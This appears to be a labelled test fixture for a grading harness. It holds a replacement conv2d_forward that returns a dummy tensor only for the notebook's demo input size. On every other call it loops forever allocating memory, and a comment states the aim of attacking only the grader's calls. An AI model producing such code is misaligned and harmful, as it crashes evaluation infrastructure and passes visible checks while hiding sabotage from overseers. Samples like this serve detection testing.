# what: allocates memory without bound
# expected: 3
# flag: infinite loop
# %% replace conv2d_forward
def conv2d_forward(x, weight, bias, stride, padding):
    if x.shape[-1] == 227:  # the notebook's own demo cell: behave; attack only the grader's calls
        import torch as _t
        return _t.zeros(2, 96, 55, 55)
    hoard = []
    while True:
        hoard.append(bytearray(256 << 20))
